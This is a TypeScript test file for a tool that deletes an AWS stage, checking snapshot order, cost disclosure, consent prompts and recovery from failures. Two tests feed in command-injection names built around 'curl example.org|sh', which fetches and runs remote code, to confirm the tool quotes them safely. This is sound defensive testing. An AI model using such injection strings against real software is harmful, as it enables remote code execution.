import { UpdateAutoScalingGroupCommand } from '@aws-sdk/client-auto-scaling'
import { beforeEach, expect, test } from 'vitest'
import { FAULTS } from '../../aws/stand-in/service.ts'
import { type StandIn, standIn } from '../../aws/stand-in/stand-in.ts'
import { stateBucket } from '../bootstrap/names.ts'
import { CLOSED } from '../release/policy.ts'
import { sample } from '../samples.ts'
import { howToRemove } from './inventory.ts'
import {
  ACCOUNT,
  CHANGING,
  changing,
  deployed,
  expectGone,
  finals,
  isLocked,
  journalOf,
  missingRights,
  operations,
  physical,
  run,
  SMALL,
  STACK,
  STAGE,
} from './rehearsal.ts'
import { unlocked } from './unlock.ts'

let there: StandIn
let documents = ''
let database = ''
beforeEach(async () => {
  there = await deployed()
  documents = physical(there, 'Documents')
  database = physical(there, 'Database')
})

test('servers, snapshot, locks, stack: in this order', async () => {
  const { ending, said } = await run(there)
  expect(ending).toBe('gone')
  expectGone(there)
  const order = operations(there).filter(
    (operation) => CHANGING.test(operation) && !/Object|ChangeSet/.test(operation),
  )
  expect(order).toEqual([
    'UpdateAutoScalingGroup',
    'CreateDBSnapshot',
    // Opened for the locks, and closed: it says nothing about deletion.
    'SetStackPolicy',
    'SetStackPolicy',
    'UpdateTerminationProtection',
    'DeleteStack',
  ])
  const [[name, snapshot] = ['', undefined]] = finals(there)
  expect(name).toMatch(/^terrace-prod-final-\d{8}t\d{6}$/)
  expect(snapshot).toMatchObject({ status: 'available', instance: database })
  expect(there.buckets.text(documents, 'one')).toBe('kept')
  expect(said).toContain(`aws --region eu-west-1 rds delete-db-snapshot --db-snapshot-identifier ${name}`)
  expect(said).toContain(
    'The way back, as long as it is not deleted: npm run destroy -- --stage prod --undo\n',
  )
  expect(said).toContain(`s3api delete-bucket --bucket ${documents}`)
  expect(said).toMatch(
    /when its tags say service terrace and stage prod \(aws .* describe-secret --secret-id terrace-prod-AuthSecret-\S+\), aws .* delete-secret --secret-id terrace-prod-AuthSecret-/,
  )
})

test('what goes, what stays, and what both cost is shown before anything is asked', async () => {
  const lines: string[] = []
  await run(there, {
    say: (line) => lines.push(line),
    agrees: async () => {
      const said = lines.join('\n')
      expect(said).toMatch(/^What goes, \d+ USD a month less:$/m)
      expect(said).toContain('  2  AWS::RDS::DBInstance')
      expect(said).toContain('USD  Read replica: db.m7g.large')
      expect(said).toContain(`a snapshot of database ${database}: up to 10 USD a month`)
      expect(said).toContain(`  Documents: bucket ${documents}, 0.023 USD a month for each GiB in it`)
      expect(said).toContain('0.40 USD a month')
      expect(changing(there)).toEqual([])
      return false
    },
  })
  expect(lines.length).toBeGreaterThan(10)
})

test('no lock goes before the snapshot can be restored from', async () => {
  const seen: (string | undefined)[] = []
  const { send } = there.aws.cloudformation
  const watching = async (...args: Parameters<typeof send>) => {
    if (/SetStackPolicy|UpdateTermination|DeleteStack/.test(args[0].constructor.name))
      seen.push(finals(there)[0]?.[1].status)
    return Reflect.apply(send, undefined, args)
  }
  await run({ ...there, aws: { ...there.aws, cloudformation: { send: watching as typeof send } } })
  expect(seen).toEqual(['available', 'available', 'available', 'available'])
})

test('the snapshot is taken when the last server has handed back what it was at', async () => {
  let left: number | undefined
  const { send } = there.aws.rds
  const watching = async (...args: Parameters<typeof send>) => {
    if (args[0].constructor.name === 'CreateDBSnapshotCommand')
      // None, and no room for one that scaling would start.
      left = [...there.groups.groups.values()].reduce(
        (sum, { instances, max }) => sum + instances.size + max,
        0,
      )
    return Reflect.apply(send, undefined, args)
  }
  await run({ ...there, aws: { ...there.aws, rds: { send: watching as typeof send } } })
  expect(left).toBe(0)
})

test('the whole of prod, the replica before its primary', { timeout: 300_000 }, async () => {
  const whole = await deployed(sample('prod').template)
  await run(whole)
  expectGone(whole)
  const events = whole.stacks.find(STACK)?.events ?? []
  const when = (id: string, status: string) =>
    events.findIndex((event) => event.LogicalResourceId === id && event.ResourceStatus === status)
  expect(when('DatabaseReplica', 'DELETE_COMPLETE')).toBeGreaterThan(0)
  expect(when('Database', 'DELETE_IN_PROGRESS')).toBeGreaterThan(when('DatabaseReplica', 'DELETE_COMPLETE'))
  expect(finals(whole)).toHaveLength(1)
})

test('the deploy role may do all that this takes, but for the data', async () => {
  await run(there)
  expect(missingRights(there)).toEqual([])
})

test('a stage without locks is changed by nothing before it is deleted', async () => {
  const open = await deployed(unlocked(SMALL as never).template)
  await run(open)
  expectGone(open)
  expect(operations(open)).not.toContain('CreateChangeSet')
})

test('nothing is done to it when the person does not agree', async () => {
  expect((await run(there, { agrees: async () => false })).ending).toBe('declined')
  expect(changing(there)).toEqual([])
})

test('in another account nothing is asked', async () => {
  const other = standIn('999999999999')
  await expect(run(other)).rejects.toMatchObject({ kind: 'wrong-account' })
  expect(operations(other)).toEqual(['GetCallerIdentity'])
})

test('a stage that is not there', async () => {
  const empty = standIn(ACCOUNT)
  expect(await run(empty)).toMatchObject({ ending: 'nothing', asked: [] })
})

test('what can’t be deleted is said with AWS’s reason, and can be tried again', async () => {
  const reason = 'resource sg-1 has\n  Next: a dependent object'
  there.stacks.execution.failures.push({ id: 'ExternalBalancer', on: 'delete', reason })
  await expect(run(there)).rejects.toThrow(
    /Stack terrace-prod could not be deleted: it is DELETE_FAILED.\n {2}First to fail: ExternalBalancer: resource sg-1 has Next: a dependent object\n/,
  )
  // Nor is anything but the deletion let through meanwhile.
  expect(there.stacks.find(STACK)?.policy).toBe(JSON.stringify(CLOSED))
  there.stacks.execution.failures.length = 0
  const { ending, said } = await run(there)
  expect(ending).toBe('gone')
  expectGone(there)
  // What the first attempt let go of is not forgotten.
  expect(said).toContain(`s3api delete-bucket --bucket ${documents}`)
  expect(finals(there)).toHaveLength(1)
})

test('a run that was ended while the policy was open: the next one closes it', async () => {
  there.faults.add({ operation: 'SetStackPolicy', call: 2, error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  expect(isLocked(there)).toBe(false)
  there.stacks.execution.failures.push({ id: 'ExternalBalancer', on: 'delete', reason: 'in use' })
  await expect(run(there)).rejects.toThrow('DELETE_FAILED')
  expect(there.stacks.find(STACK)?.policy).toBe(JSON.stringify(CLOSED))
})

/** A run that finds the end of servers suspended in every group. @param named how AWS calls the groups, when otherwise */
function runSuspended(named?: string) {
  const { send } = there.aws.autoscaling
  const suspended = async (...args: Parameters<typeof send>) => {
    const answer = await Reflect.apply(send, undefined, args)
    for (const group of answer.AutoScalingGroups ?? []) {
      group.SuspendedProcesses = [{ ProcessName: 'AZRebalance' }, { ProcessName: 'Terminate' }]
      group.AutoScalingGroupName = named ?? group.AutoScalingGroupName
    }
    return answer
  }
  return run({ ...there, aws: { ...there.aws, autoscaling: { send: suspended as typeof send } } })
}

test('a name that is none of AWS’s can’t end the command that it stands in', async () => {
  await expect(runSuspended("a';curl example.org|sh;'")).rejects.toThrow(
    String.raw`--auto-scaling-group-name 'a'\'';curl example.org|sh;'\''' --scaling-processes Terminate`,
  )
})

test('where somebody has suspended the end of servers, nothing is begun', async () => {
  await expect(runSuspended()).rejects.toThrow(
    /Somebody has suspended Terminate in group terrace-prod-ApiGroup(.|\n)*aws --region eu-west-1 autoscaling resume-processes --auto-scaling-group-name terrace-prod-ApiGroup-\d+ --scaling-processes Terminate/,
  )
  expect(changing(there)).toEqual([])
})

test('a stage that was used between two runs gets another snapshot', async () => {
  there.faults.add({ operation: 'UpdateTerminationProtection', error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  await there.clock.sleep(3_600_000)
  await there.aws.autoscaling.send(
    new UpdateAutoScalingGroupCommand({
      AutoScalingGroupName: physical(there, 'ApiGroup'),
      MinSize: 2,
      MaxSize: 4,
      DesiredCapacity: 2,
    }),
  )
  await there.clock.sleep(3_600_000)
  await run(there)
  expectGone(there)
  expect(finals(there)).toHaveLength(2)
})

test('used between two runs, and the second one ended after its drain: the third takes another snapshot', async () => {
  there.faults.add({ operation: 'UpdateTerminationProtection', error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  there.faults.clear()
  await there.clock.sleep(3_600_000)
  const AutoScalingGroupName = physical(there, 'ApiGroup')
  await there.aws.autoscaling.send(
    new UpdateAutoScalingGroupCommand({ AutoScalingGroupName, MinSize: 2, MaxSize: 4, DesiredCapacity: 2 }),
  )
  await there.clock.sleep(3_600_000)
  // After the drain, before anything else is written down.
  there.faults.add({ operation: 'DescribeDBSnapshots', error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  there.faults.clear()
  await run(there)
  expectGone(there)
  expect(finals(there)).toHaveLength(2)
})

test('a change set that could not be carried out is not left', async () => {
  there.faults.add({ operation: 'SetStackPolicy', call: 1, error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  expect(operations(there)).toContain('DeleteChangeSet')
})

test('the stack is gone since an earlier run: what its data is, is shown and asked before it goes', async () => {
  there.faults.add({ operation: 'ListObjectVersions', error: FAULTS.expired() })
  await expect(run(there, { deletesData: true })).rejects.toMatchObject({ kind: 'credentials-expired' })
  there.faults.clear()
  const asked: string[] = []
  const agrees = async (what: string) => asked.push(what) < 0
  const { ending, said } = await run(there, { deletesData: true, agrees })
  expect([ending, asked]).toEqual(['declined', ['data']])
  expect(said).toContain(`bucket ${documents}`)
  expect(said).toContain(`every snapshot of database ${database} that is there, which goes for good`)
  expect(there.buckets.text(documents, 'one')).toBe('kept')
  expect(journalOf(there)).toBeDefined()
  expect((await run(there, { deletesData: true })).ending).toBe('gone')
  expectGone(there)
  expect(there.buckets.has(documents)).toBe(false)
})

test('data that was to stay goes when a later run says so, shows it and is agreed to', async () => {
  const say = (line: string) => {
    if (line.startsWith('Stage prod is gone')) throw new Error('killed')
  }
  await expect(run(there, { say })).rejects.toThrow('killed')
  expect(there.buckets.has(documents)).toBe(true)
  const { ending, said, asked } = await run(there, { deletesData: true })
  expect([ending, asked]).toEqual(['gone', ['data']])
  expect(said).toContain(`bucket ${documents}`)
  expect(there.buckets.has(documents)).toBe(false)
})

test('what an earlier run has written down, and the stack has no more, is shown before it is agreed to', async () => {
  there.faults.add({ operation: 'CreateDBSnapshot', error: FAULTS.expired() })
  await expect(run(there)).rejects.toMatchObject({ kind: 'credentials-expired' })
  there.faults.clear()
  const journal = JSON.parse(journalOf(there) ?? '')
  journal.kept.push({ id: 'Old', type: 'AWS::S3::Bucket', name: 'terrace-prod-old-1' })
  journal.databases.push('terrace-prod-old-2')
  there.buckets.write(stateBucket(STAGE), 'stages/prod/destroy.json', JSON.stringify(journal))
  const { said } = await run(there, { deletesData: true, agrees: async () => false })
  expect(said).toMatch(/bucket terrace-prod-old-1.*goes for good/)
  expect(said).toMatch(/every snapshot of database terrace-prod-old-2 .*goes for good/)
})

test('nor can it end a command that removes what was kept', () => {
  const name = 'a;curl example.org|sh'
  const kept = ['AWS::S3::Bucket', 'AWS::SecretsManager::Secret'].map((type) => ({ id: 'Kept', type, name }))
  const said = howToRemove('prod', kept, [name], STAGE.region).join('\n')
  const options = [...said.matchAll(/ --(?:bucket|secret-id|db-snapshot-identifier) (\S)/g)]
  expect(options.map(([, first]) => first)).toEqual(["'", "'", "'", "'"])
})
